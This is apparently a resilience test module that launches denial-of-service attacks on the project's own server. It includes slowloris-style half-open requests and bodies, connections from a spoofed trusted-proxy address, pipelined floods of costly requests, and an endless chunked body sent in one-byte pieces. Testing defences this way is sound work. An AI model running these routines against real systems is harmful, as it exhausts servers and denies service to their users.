"""Requests that never end, rows of requests, and bodies in crumbs."""

from __future__ import annotations

import contextlib
import socket
import time

from tests.attack.attacks import attack
from tests.attack.wire import ATTACKER, LOST, Target, drain

MAX_OPEN = 1500


def hold(target: Target, first: bytes, drip: bytes, sources: list[str]) -> None:
    """Open connections, send ``first`` and then ``drip`` once a second,
    as long as the attack lasts."""
    lines: list[socket.socket] = []
    again = time.monotonic() + 1
    try:
        while target.goes_on():
            if len(lines) < MAX_OPEN:
                with contextlib.suppress(*LOST):
                    line = target.dial(target.chance.choice(sources), 1.0)
                    lines.append(line)
                    line.sendall(first)
            else:
                time.sleep(0.1)
            if time.monotonic() > again:
                again += 1
                for line in lines:
                    with contextlib.suppress(*LOST):
                        line.sendall(drip)
    finally:
        for line in lines:
            line.close()


@attack
def half_open_requests(target: Target) -> None:
    hold(target, b"GET / HTTP/1.1\r\nHost: x\r\n", b"X-A: b\r\n", [ATTACKER])


@attack
def half_open_requests_through_the_proxy(target: Target) -> None:
    """From the address of a trusted proxy, where nobody knows whose they are."""
    hold(target, b"", b"", ["127.0.0.1"])


@attack
def half_open_bodies(target: Target) -> None:
    head = b"POST /api/tables HTTP/1.1\r\nHost: x\r\nContent-Length: 16000\r\n\r\n"
    hold(target, head, b" ", [f"127.0.1.{n}" for n in range(1, 20)])


def row(target: Target, request: bytes, most: int = 2000) -> None:
    """Send many requests on one connection without waiting for answers."""
    with target.dial() as line:
        line.settimeout(1.0)
        with contextlib.suppress(OSError):
            for _ in range(most):
                if not target.goes_on():
                    break
                line.sendall(request * 10)
                target.counts["requests"] += 10
        target.seen(drain(line, 0.1))


@attack
def rows_of_requests(target: Target) -> None:
    row(target, b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")


@attack
def rows_of_costly_requests(target: Target) -> None:
    row(target, b"GET /api/locales/fr HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\n\r\n")


@attack
def many_connections_with_costly_requests(target: Target) -> None:
    request = (
        b"GET /api/games/paris_paris/material HTTP/1.1\r\nHost: x\r\nAccept-Encoding: gzip\r\n\r\n"
    )
    lines = []
    try:
        for _ in range(200):
            with contextlib.suppress(*LOST):
                line = target.dial()
                lines.append(line)
                line.sendall(request * 20)
        while target.goes_on():
            time.sleep(0.1)
    finally:
        for line in lines:
            target.seen(drain(line, 0.001))
            line.close()


@attack
def bodies_in_crumbs(target: Target) -> None:
    head = b"POST /api/records HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    with target.dial() as line:
        line.settimeout(1.0)
        with contextlib.suppress(OSError):
            line.sendall(head)
            while target.goes_on():
                line.sendall(b"1\r\na\r\n" * 5000)
                target.counts["pieces"] += 1
        target.seen(drain(line, 0.05))
